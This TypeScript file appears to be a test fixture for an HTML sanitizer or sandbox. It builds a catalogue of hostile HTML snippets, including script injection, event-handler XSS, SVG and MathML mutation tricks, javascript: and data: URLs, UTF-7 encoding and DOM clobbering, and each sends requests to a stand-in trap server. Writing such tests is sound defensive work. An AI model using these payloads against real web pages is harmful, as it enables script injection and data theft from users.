/**
 * HTML that tries to run code, to send requests or to reach the page around it.
 *
 * @param trap a server that must never get a request
 */
export function hostileHtml(trap: string): readonly (readonly [title: string, html: string])[] {
  const run = `top.hacked=1;parent.hacked=1;fetch('${trap}/script');new Image().src='${trap}/image';document.title='hacked'`
  const inData = `data:text/html,${encodeURIComponent(`<script>${run}</script>`)}`
  return [
    ['a script', `<script>${run}</script>`],
    [
      'a script from elsewhere',
      `<script src="${trap}/x.js"></script><script type=module src="${trap}/y.js"></script>`,
    ],
    ['an image that fails', `<img src=x onerror="${run}"><video src=x onerror="${run}"></video>`],
    [
      'handlers of every kind',
      `<body onload="${run}"><details open ontoggle="${run}"><input autofocus onfocus="${run}"><p onmouseover="${run}" style="position:fixed;inset:0">x</p>`,
    ],
    [
      'SVG',
      `<svg onload="${run}"><script>${run}</script><image href="${trap}/i.svg" /><use href="${trap}/u.svg#a" /><animate onbegin="${run}" attributeName=x dur=1s /><foreignObject><body onload="${run}"></foreignObject></svg>`,
    ],
    [
      'SVG in MathML',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    ],
    [
      'a redirect',
      `<meta http-equiv="refresh" content="0;url=${trap}/refresh"><meta http-equiv=refresh content="0;url=javascript:${run}">`,
    ],
    [
      'a policy of its own',
      `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${run}</script>`,
    ],
    ['a base', `<base href="${trap}/"><img src="relative.png"><link rel=stylesheet href="a.css">`],
    [
      'style sheets',
      `<link rel=stylesheet href="${trap}/a.css"><style>@import "${trap}/b.css";@font-face{font-family:f;src:url(${trap}/f.woff)}body{font-family:f;background:url('${trap}/c.png')}p::before{content:url(${trap}/d.png)}</style><p style="background-image:url(${trap}/e.png);list-style:url(${trap}/f.png)">x</p>`,
    ],
    [
      'images',
      `<img src="${trap}/1x1.png"><img srcset="${trap}/2.png 2x"><picture><source srcset="${trap}/3.png"><img src=x></picture><table background="${trap}/4.png"><tr><td>x</table><input type=image src="${trap}/5.png"><video poster="${trap}/6.png"></video>`,
    ],
    [
      'media',
      `<audio src="${trap}/a.mp3" autoplay></audio><video autoplay><source src="${trap}/v.mp4"><track src="${trap}/t.vtt" default></video>`,
    ],
    [
      'frames',
      `<iframe src="${trap}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><iframe src="${inData}"></iframe><iframe src="javascript:${run}"></iframe><object data="${trap}/object"></object><embed src="${trap}/embed"><object data="${inData}"></object>`,
    ],
    ['a frameset', `<frameset cols="*"><frame src="${trap}/frame"></frameset>`],
    [
      'forms',
      `<form action="${trap}/form" method=post id=f><input name=q value=x><button id=send>Send</button></form><button form=f formaction="${trap}/formaction">y</button><form action="javascript:${run}"><input type=submit></form>`,
    ],
    [
      'hints',
      `<link rel=prefetch href="${trap}/prefetch"><link rel=preload as=image href="${trap}/preload"><link rel=dns-prefetch href="${trap}"><link rel=preconnect href="${trap}"><link rel=icon href="${trap}/icon"><link rel=manifest href="${trap}/manifest">`,
    ],
    [
      'noscript',
      `<noscript><img src="${trap}/noscript"><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
    ],
    [
      'templates',
      `<template shadowrootmode=open><img src="${trap}/shadow"><script>${run}</script></template>`,
    ],
    [
      'conditional comments',
      `<!--[if true]><script>${run}</script><![endif]--><!--><img src=x onerror="${run}">-->`,
    ],
    [
      'a text area that ends early',
      `<textarea></textarea><script>${run}</script></textarea><title></title><script>${run}</script></title><xmp></xmp><script>${run}</script>`,
    ],
    ['a tag that never ends', `<img src="x" onerror="${run}" <p`],
    [
      'what looks like the end of the page',
      `</body></html><script>${run}</script></iframe></article></main><script>${run}</script>`,
    ],
    ['an old encoding', `+ADw-script+AD4-${run}+ADw-/script+AD4-`],
    [
      'a name that is an object',
      `<form id=parent></form><img name=cookie><a id=location href="${trap}">x</a>`,
    ],
  ]
}
